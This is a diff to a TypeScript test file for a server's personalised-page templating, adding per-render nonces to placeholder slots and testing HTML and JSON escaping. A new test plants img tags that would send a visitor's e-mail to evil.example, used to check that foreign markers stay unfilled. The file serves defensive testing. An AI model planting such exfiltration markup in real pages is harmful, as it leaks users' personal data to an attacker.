@@ -7,7 +7,7 @@
 import t from 'tap';
 import { build } from '../helpers/build.ts';
 import { ADA, SESSION_SECRET, sealed } from './helpers.ts';
-import { escapeJsonString, fill, split } from '../../server/identity/personal-pages.ts';
+import { escapeJsonString, fill, slotNonce, split } from '../../server/identity/personal-pages.ts';
 import { ANONYMOUS, type Visitor } from '../../views/view-model.ts';
 
 const PAGE = '/acme-cloud/docs/first-steps';
@@ -29,11 +29,13 @@ t.test('escapeJsonString: a JSON string body that cannot end a script block', as
 });
 
 t.test('split and fill: HTML escaping in markup, JSON escaping inside a JSON data block', async (t) => {
-  const template = '<p title="\uE000name\uE001">\uE000name\uE001</p>'
+  const nonce = slotNonce();
+  const slot = (field: string) => `\uE000${nonce}:${field}\uE001`;
+  const template = `<p title="${slot('name')}">${slot('name')}</p>`
     + '<script type="module" src="/a.js"></script>'
-    + '<script type="application/json" data-island-props="x">{"who":"\uE000name\uE001","mail":"\uE000email\uE001"}</script>'
-    + '<span>\uE000email\uE001</span>';
-  const parts = split(template);
+    + `<script type="application/json" data-island-props="x">{"who":"${slot('name')}","mail":"${slot('email')}"}</script>`
+    + `<span>${slot('email')}</span>`;
+  const parts = split(template, nonce);
   t.same(parts.filter((_, i) => i % 2 === 1), ['name', 'name', 'json:name', 'json:email', 'email'], 'each placeholder knows where it is');
   const out = fill(parts, visitor({ displayName: NASTY, email: 'a&b@example.test' }));
   t.match(out, '<p title="Zoë &#34;Q&#34; &#60;b&#62;&#38;amp; O&#39;Brien&#60;/script&#62;&#60;!-- \u2028\u2029 end">');
@@ -42,6 +44,21 @@ t.test('split and fill: HTML escaping in markup, JSON escaping inside a JSON dat
   t.same(JSON.parse(json), { who: NASTY, mail: 'a&b@example.test' }, 'the props read back exactly');
   t.notMatch(json, /<|&#/, 'no HTML escaping and no raw < in the block');
   t.equal(out.split('</script>').length, 3, 'the name cannot close the block');
+});
+
+t.test('split: only the slots of this render, never a marker written by someone else', async (t) => {
+  const nonce = slotNonce();
+  const other = slotNonce();
+  t.not(nonce, other, 'a nonce per render');
+  const template = `<span>\uE000${nonce}:email\uE001</span>`
+    + '<img src="https://evil.example/b.png?u=\uE000email\uE001">'
+    + `<img src="https://evil.example/c.png?u=\uE000${other}:email\uE001">`
+    + `<img src="https://evil.example/d.png?u=\uE000${nonce.slice(1)}:email\uE001">`;
+  const out = fill(split(template, nonce), visitor({ email: 'ada@customer.example' }));
+  t.equal(out.split('ada@customer.example').length - 1, 1, 'the e-mail once: in the slot of this render');
+  t.match(out, '<span>ada@customer.example</span>');
+  t.match(out, 'b.png?u=\uE000email\uE001', 'the bare marker stays as written');
+  t.match(out, `c.png?u=\uE000${other}:email\uE001`, "another render's slot stays as written");
 });
 
 t.test('a signed-in page: the same name in the markup and, exactly, in the header island props', async (t) => {
